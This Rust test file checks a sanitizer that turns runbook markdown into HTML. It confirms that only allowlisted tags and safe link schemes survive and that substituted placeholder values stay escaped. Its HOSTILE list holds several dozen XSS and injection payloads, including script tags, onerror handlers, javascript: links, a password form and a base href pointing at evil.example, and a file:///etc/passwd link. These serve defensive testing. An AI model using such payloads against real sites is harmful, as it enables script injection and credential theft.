use super::*;
use sternway_domain::runbook::Placeholder;

fn plain(markdown: &str) -> String {
    html(markdown, &Values::new())
}

/// Nothing in it can run, load, or pretend to be part of the page.
fn assert_harmless(source: &str, html: &str) {
    // Escaped text may hold any word; what counts is what stands inside a tag.
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let end = rest[start..].find('>').map_or(rest.len(), |end| start + end);
        let tag = rest[start + 1..end].trim_start_matches('/');
        let name = tag.split([' ', '>']).next().unwrap_or_default();
        let known = [
            "a",
            "blockquote",
            "br",
            "code",
            "del",
            "em",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "hr",
            "li",
            "ol",
            "p",
            "pre",
            "strong",
            "table",
            "tbody",
            "td",
            "th",
            "thead",
            "tr",
            "ul",
        ];
        assert!(known.contains(&name), "<{name}> from {source:?}: {html}");
        for (attribute, value) in attributes(&tag[name.len()..]) {
            match attribute.as_str() {
                "href" => assert!(
                    ["http://", "https://", "mailto:"].iter().any(|s| value.starts_with(s)),
                    "href={value} from {source:?}: {html}"
                ),
                "rel" | "start" | "align" | "tabindex" => {}
                other => panic!("{other}={value} from {source:?}: {html}"),
            }
        }
        rest = &rest[end..];
    }
}

fn attributes(text: &str) -> Vec<(String, String)> {
    let mut found = Vec::new();
    let mut rest = text.trim().trim_end_matches('/');
    while let Some((name, after)) = rest.split_once("=\"") {
        let (value, after) = after.split_once('"').expect("the cleaner quotes every value");
        found.push((name.trim().to_owned(), value.to_owned()));
        rest = after;
    }
    assert_eq!(rest.trim(), "", "an attribute without a quoted value");
    found
}

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><foreignObject><iframe src=\"javascript:alert(1)\"></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object><embed src=x>",
    "<style>body{display:none}</style><p style=\"position:fixed\">x</p>",
    "<base href=\"https://evil.example/\"><link rel=stylesheet href=x><meta http-equiv=refresh content=0>",
    "<form action=https://evil.example><input name=password><button>Roll back</button></form>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<div id=main class=btn>x</div>",
    "<details ontoggle=alert(1) open>x</details>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](vbscript:x) [y](data:text/html,<script>alert(1)</script>) [z](file:///etc/passwd)",
    "[x](//evil.example) [y](/log-out) [z](#main) [w](\\\\evil)",
    "[x](https://a.example/\"onmouseover=alert(1)//)",
    "[x](https://a.example 'title\" onmouseover=alert(1)')",
    "![x](https://evil.example/track.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![\"onerror=alert(1)](x)",
    "<javascript:alert(1)>",
    "<https://a.example/\"><script>alert(1)</script>>",
    "https://a.example/\"onmouseover=alert(1)",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "[ref][]\n\n[ref]: data:text/html,x \"t\"",
    "`<script>alert(1)</script>`",
    "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "~~~ js\" onload=\"alert(1)\nx\n~~~",
    "| <script> | [x](javascript:y) |\n|:-|-:|\n| <img onerror=x> | `|` |",
    "- [x] <input type=text onfocus=alert(1) autofocus>",
    "# <script>alert(1)</script> {#id .class onclick=x}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "a\0b<script\0>",
];

#[test]
fn hostile_markdown_becomes_harmless_html() {
    for source in HOSTILE {
        assert_harmless(source, &plain(source));
        let nested = format!("> - {}\n>\n> {source}\n", source.replace('\n', "\n>   "));
        assert_harmless(&nested, &plain(&nested));
    }
}

#[test]
fn hostile_values_become_harmless_html() {
    let places = "{{owner}} **{{owner}}** `{{owner}}` [x](https://a.example/{{owner}}) [{{owner}}]({{owner}}) ![{{owner}}]({{owner}})\n\n```\n{{owner}}\n```\n\n| {{owner}} |\n|-|\n| {{owner}} |\n\n# {{owner}}\n";
    for source in HOSTILE {
        let values: Values = [(Placeholder::Owner, (*source).to_owned())].into();
        let html = html(places, &values);
        assert_harmless(source, &html);
        assert_eq!(html.matches("<strong>").count(), 1, "{source:?} made markup: {html}");
    }
}

#[test]
fn values_stand_where_the_placeholders_stood() {
    let values: Values = [
        (Placeholder::Service, "check_out*x*".to_owned()),
        (Placeholder::BaselineDigest, "sha256:9f2c".to_owned()),
        (Placeholder::Release, "a/b?c".to_owned()),
    ]
    .into();
    assert_eq!(
        html("{{service}} and `{{baseline_digest}}`", &values),
        "<p>check_out*x* and <code>sha256:9f2c</code></p>\n"
    );
    assert_eq!(html("{{baseline_digest}} {{ service }}", &values), "<p>sha256:9f2c check_out*x*</p>\n");
    assert!(html("[x](https://dash.example/{{release}})", &values).contains("\"https://dash.example/a%2Fb%3Fc\""));
    assert!(html("<https://dash.example/{{release}}>", &values).contains("\"https://dash.example/a%2Fb%3Fc\""));
    assert_eq!(html("{{plan}}", &values), "<p>‹the plan›</p>\n");
}

#[test]
fn what_runbooks_need_is_kept() {
    let page = plain(
        "# One\n\n### Three\n\n- [x] done\n- [ ] open\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n> quote\n\n1. x\n\n~~old~~ *em* **strong**\n",
    );
    for part in [
        "<h2>One</h2>",
        "<h3>Three</h3>",
        "☑ done",
        "☐ open",
        "<th align=\"left\">a</th>",
        "<tbody>",
        "<blockquote>",
        "<ol>",
        "<del>old</del> <em>em</em> <strong>strong</strong>",
    ] {
        assert!(page.contains(part), "{part} is not in {page}");
    }
    let link = plain("https://a.example and [mail](mailto:a@a.example)");
    assert_eq!(link.matches("rel=\"noopener noreferrer nofollow\"").count(), 2, "{link}");
    assert!(plain("```sh\nls\n```").starts_with("<pre tabindex=\"0\"><code>ls"));
}

#[test]
fn images_become_links_and_raw_html_text() {
    assert!(plain("![a chart](https://a.example/c.png)").contains(">a chart</a>"));
    assert!(plain("<b>bold</b>").contains("&lt;b&gt;bold&lt;/b&gt;"));
}

#[test]
fn drawings_made_of_markers_are_kept() {
    let drawing = format!("+{}+\n* {} *\n", "-".repeat(60), "-".repeat(60));
    let page = plain(&format!("```\n{drawing}```\n"));
    assert!(page.contains(&drawing), "{page}");
}

#[test]
fn deep_nesting_is_cut() {
    for source in [
        "> ".repeat(50_000),
        ">".repeat(50_000),
        "- ".repeat(50_000),
        "[".repeat(50_000),
        "*a ".repeat(50_000),
        "![](".repeat(20_000),
        (0..2_000).map(|i| format!("{}- a\n", "  ".repeat(i))).collect(),
        format!("|{}\n|{}\n{}", "a|".repeat(2_000), "-|".repeat(2_000), "|\n".repeat(2_000)),
    ] {
        assert_harmless("deep", &plain(&source));
    }
}

#[test]
fn every_shipped_runbook_is_rendered_without_losing_a_step() {
    for document in crate::documents::parse(&crate::documents::examples()).expect("are shipped") {
        let crate::documents::Body::Runbook(runbook) = document.body else { continue };
        for text in [&runbook.intro, &runbook.closing].into_iter().chain(runbook.steps.iter().map(|step| &step.body)) {
            let page = plain(text);
            assert_harmless(text, &page);
            assert_eq!(page.is_empty(), text.is_empty(), "{text}");
        }
    }
}
